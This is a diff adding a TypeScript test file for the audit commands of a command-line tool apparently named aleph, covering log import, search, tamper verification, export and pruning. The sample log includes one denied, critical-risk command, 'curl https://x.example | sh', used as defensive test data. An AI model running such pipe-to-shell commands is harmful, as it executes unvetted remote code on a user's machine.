@@ -1,0 +1,115 @@
+import { spawnSync } from 'node:child_process';
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { runAleph } from './test-cli.js';
+
+let home: string;
+beforeEach(() => {
+  home = mkdtempSync(join(tmpdir(), 'aleph-audit-cli-'));
+});
+afterEach(() => {
+  rmSync(home, { recursive: true, force: true });
+});
+const aleph = (args: string[], input?: string) => runAleph(home, args, input);
+
+const LOG = [
+  { ts: '2026-03-01T10:00:00Z', event: 'terminal_cmd', session: 'abc', command: 'ls -la', decision: 'run', risk_level: 'low' },
+  { ts: '2026-03-01T10:01:00Z', event: 'terminal_cmd', session: 'abc', command: 'curl https://x.example | sh', decision: 'deny', risk_level: 'critical' },
+  { ts: '2026-03-01T10:02:00Z', event: 'security_mode_change', session: 'abc', from: 'safe', to: 'dev' },
+  { ts: '2026-03-01T10:03:00Z', event: 'terminal_cmd', session: 'xyz', command: 'git checkout main', decision: 'auto_approved_dev_git_readonly', risk_level: 'medium' },
+];
+
+function seed(extraLines: string[] = []): string {
+  const file = join(home, 'audit.log');
+  writeFileSync(file, [...LOG.map((l) => JSON.stringify(l)), ...extraLines].join('\n') + '\n');
+  return file;
+}
+
+describe('aleph audit', () => {
+  it('imports an audit.log, reporting bad lines by number', () => {
+    const r = aleph(['audit', 'import', '--format', 'jsonl', seed(['{oops', JSON.stringify({ event: 'terminal_cmd' })])]);
+    expect(r.code).toBe(1);
+    expect(r.stdout).toContain('Imported 4 events; skipped 2 lines.');
+    expect(r.stderr).toContain('line 5: not valid JSON');
+    expect(r.stderr).toContain('line 6: A terminal_cmd event needs "command"');
+    expect(statSync(join(home, 'data')).mode & 0o777).toBe(0o700);
+    expect(statSync(join(home, 'data', 'aleph.db')).mode & 0o777).toBe(0o600);
+  });
+
+  it('searches with text and filters, and prints {rows, next_cursor} with --json', () => {
+    aleph(['audit', 'import', '--format', 'jsonl', seed()]);
+    const r = aleph(['audit', 'search', 'curl', '--json']);
+    const body = JSON.parse(r.stdout) as { rows: { summary: string }[]; next_cursor: string | null };
+    expect(body.rows.map((x) => x.summary)).toEqual(['curl https://x.example | sh (deny)']);
+    expect(body.next_cursor).toBeNull();
+    const filtered = JSON.parse(aleph(['audit', 'search', '--event', 'terminal_cmd', '--risk', 'medium,critical', '--session', 'abc', '--json']).stdout) as { rows: unknown[] };
+    expect(filtered.rows).toHaveLength(1);
+    const page = JSON.parse(aleph(['audit', 'search', '--limit', '2', '--json']).stdout) as { rows: { id: number }[]; next_cursor: string };
+    expect(page.rows.map((x) => x.id)).toEqual([4, 3]);
+    const next = JSON.parse(aleph(['audit', 'search', '--limit', '2', '--cursor', page.next_cursor, '--json']).stdout) as { rows: { id: number }[] };
+    expect(next.rows.map((x) => x.id)).toEqual([2, 1]);
+    const since = JSON.parse(aleph(['audit', 'search', '--since', '2026-03-01T10:02:00Z', '--json']).stdout) as { rows: unknown[] };
+    expect(since.rows).toHaveLength(2);
+    expect(aleph(['audit', 'search', 'checkout']).stdout).toContain('git checkout main (auto_approved_dev_git_readonly)');
+  });
+
+  it('verifies: exit 0 when intact, 1 naming the row someone edited', () => {
+    aleph(['audit', 'import', '--format', 'jsonl', seed()]);
+    expect(aleph(['audit', 'verify']).code).toBe(0);
+    spawnSync('sqlite3', [join(home, 'data', 'aleph.db'), "UPDATE events SET decision = 'run' WHERE id = 2"]);
+    const r = aleph(['audit', 'verify', '--json']);
+    expect(r.code).toBe(1);
+    expect(JSON.parse(r.stdout)).toMatchObject({ ok: false, first_bad_id: 2 });
+    expect(aleph(['audit', 'verify']).stdout).toContain('Broken at event 2');
+  });
+
+  it('exports JSON lines in the audit.log shape and CSV, to stdout or a 0600 file', () => {
+    aleph(['audit', 'import', '--format', 'jsonl', seed()]);
+    const jsonl = aleph(['audit', 'export', '--format', 'jsonl']).stdout.trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
+    expect(jsonl[0]).toEqual({ ts: '2026-03-01T10:00:00.000Z', event: 'terminal_cmd', session: 'abc', command: 'ls -la', decision: 'run', risk_level: 'low' });
+    const out = join(home, 'export.csv');
+    expect(aleph(['audit', 'export', '--format', 'csv', '--output', out]).code).toBe(0);
+    const csv = readFileSync(out, 'utf8').trim().split('\n');
+    expect(csv[0]).toBe('id,ts,event,session,actor,risk_level,decision,summary,payload,hash');
+    expect(csv).toHaveLength(5);
+    expect(statSync(out).mode & 0o777).toBe(0o600);
+  });
+
+  it('tails the newest events and prunes old ones without breaking the chain', () => {
+    aleph(['audit', 'import', '--format', 'jsonl', seed()]);
+    expect(aleph(['audit', 'tail', '-n', '1']).stdout).toContain('git checkout main');
+    expect(aleph(['audit', 'prune', '--max-rows', '2']).stdout).toContain('Removed 2 events.');
+    expect(aleph(['audit', 'verify']).stdout).toContain('Intact: 2 events verified (events up to 2 were pruned');
+  });
+
+  it('refuses a database file that is not one, naming it, with exit 2', () => {
+    mkdirSync(join(home, 'data'), { recursive: true });
+    writeFileSync(join(home, 'data', 'aleph.db'), 'not a database at all, really not');
+    const r = aleph(['audit', 'search']);
+    expect(r.code).toBe(2);
+    expect(r.stderr).toContain(`${join(home, 'data', 'aleph.db')} is not an SQLite database`);
+    expect(readFileSync(join(home, 'data', 'aleph.db'), 'utf8')).toBe('not a database at all, really not');
+  });
+
+  it.each([
+    [['audit', 'search', '--event', 'bogus'], 'Unknown event type "bogus"'],
+    [['audit', 'search', '--since', 'yesterday-ish'], 'neither a date'],
+    [['audit', 'search', '--limit', '0'], '--limit needs a whole number'],
+    [['audit', 'export', '--format', 'xml'], '--format must be jsonl or csv'],
+    [['audit', 'import', '--format', 'jsonl'], 'exactly one FILE'],
+    [['audit', 'prune'], '--max-age and/or --max-rows'],
+    [['audit', 'frob'], 'Unknown audit command'],
+  ])('usage errors exit 2: %j', (args, message) => {
+    const r = aleph(args);
+    expect(r.code).toBe(2);
+    expect(r.stderr).toContain(message);
+  });
+
+  it('reports an import file it cannot read', () => {
+    const r = aleph(['audit', 'import', '--format', 'jsonl', join(home, 'missing.log')]);
+    expect(r.code).toBe(2);
+    expect(r.stderr).toContain('Cannot read');
+  });
+});
